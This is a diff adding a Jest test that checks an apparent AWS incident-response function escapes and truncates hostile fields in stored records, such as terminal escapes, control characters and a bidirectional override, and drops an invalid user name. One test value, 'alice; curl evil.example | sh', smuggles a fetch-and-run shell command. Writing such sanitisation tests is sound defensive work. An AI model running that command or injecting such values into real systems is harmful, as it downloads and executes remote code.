@@ -135,6 +135,43 @@ describe('receiveSignal', () => {
     expect(late).toMatchObject({ role: 'joined', overdue: true });
   });
 
+  it("reads the record's texts inert and cut, and leaves out a user name IAM could not have", async () => {
+    dbMock.on(UpdateItemCommand).resolves({
+      Attributes: {
+        ...item('ta-event'),
+        firstSource: { S: 'trusted-advisor\u001b[2J' },
+        openedAt: { S: '2026-11-26\nKey now        DELETED' },
+        sources: { SS: ['health\r', 'trusted-advisor'] },
+        reportedUserName: { S: 'alice; curl evil.example | sh' },
+        outcome: { S: 'deleted\u202e' },
+        contained: { BOOL: true },
+        respondedAt: { S: `2026-11-26T22:00:09.000Z${'x'.repeat(500)}` },
+        userName: { S: 'bob\n' },
+      },
+    });
+    iamMock.on(GetAccessKeyLastUsedCommand).rejects(new NoSuchEntityException({ message: 'no', $metadata: {} }));
+
+    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });
+
+    const record = receipt.role === 'joined' ? receipt.record : null;
+    expect(record).toEqual({
+      accountId: '123456789012',
+      accessKeyId: KEY,
+      firstEventId: 'ta-event',
+      firstSource: 'trusted-advisor\\x1B[2J',
+      openedAt: '2026-11-26\\x0AKey now        DELETED',
+      signals: 2,
+      sources: ['health\\x0D', 'trusted-advisor'],
+      response: {
+        outcome: 'deleted\\u202E',
+        contained: true,
+        at: expect.stringMatching(/^2026-11-26T22:00:09\.…x+$/),
+        userName: null,
+      },
+    });
+    expect(record?.response?.at.length).toBe(40);
+  });
+
   it('is first without a record (respond, or a stack without one)', async () => {
     expect(await receiveSignal(deps(false), { kind: 'key', incident: incidentFor(KEY, 'alice') })).toEqual({
       role: 'first',
